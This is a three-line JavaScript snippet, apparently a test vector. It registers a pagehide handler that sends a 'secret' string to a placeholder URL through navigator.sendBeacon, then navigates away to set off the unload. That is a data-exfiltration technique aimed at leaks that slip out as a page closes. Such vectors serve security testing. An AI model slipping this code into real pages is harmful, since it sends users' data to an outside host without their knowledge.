// vector: sendBeacon when the frame goes
addEventListener("pagehide", () => navigator.sendBeacon("$URL", "secret"));
location.href = "about:blank";
